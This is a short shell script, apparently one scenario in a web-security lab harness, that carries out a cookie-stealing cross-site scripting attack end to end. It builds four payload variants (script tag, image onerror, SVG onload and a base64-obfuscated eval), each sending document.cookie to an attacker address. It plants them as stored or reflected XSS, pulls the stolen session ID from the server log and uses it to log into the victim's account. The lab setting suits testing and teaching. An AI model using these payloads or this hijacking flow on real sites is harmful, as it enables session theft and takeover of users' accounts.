# Have the visitor's browser run a script that brings the cookie, then open the visitor's account with it.
. /usr/local/lib/lab/attack.sh
bring="new Image().src='http://$ATTACKER_ADDRESS/take?'+document.cookie"
case $PAYLOAD in
script) script="<script>$bring</script>" ;;
image) script="<img src=x onerror=\"$bring\">" ;;
drawing) script="<svg onload=\"$bring\"></svg>" ;;
encoded) script="<img src=x onerror=eval(atob('$(printf '%s' "$bring" | base64 -w 0)'))>" ;;
esac
script=$(printf '%s' "$script" | encoded)
case $TASK in
stored)
	phase plant
	post "author=guest&text=$script"
	;;
reflected)
	phase plant
	sed -i "s,SEARCH,$script," "$HOST_ROOT/srv/www/index.html"
	;;
esac
signal planted
await visited
phase hijack
# The web server writes in order: after this, what has come is in its log.
curl -s http://127.0.0.1/mark >/dev/null
log web '^/mark$' 1 >/dev/null
sent=$(log web | grep '^/take' | sort -u | wc -l) # a page may hold the script of an earlier time, too
cookie=$(log web | sed -n 's,^/take?.*\(PHPSESSID=[a-z0-9]*\).*,\1,p' | head -n 1)
fetch "http://$WEB_NAME/account.php" "$cookie" >account
outcome sent="$sent"
outcome account="$(grep . account | sed -n 's,^<h1>Welcome\, \(.*\)</h1>$,\1,p' | grep . || echo none)"
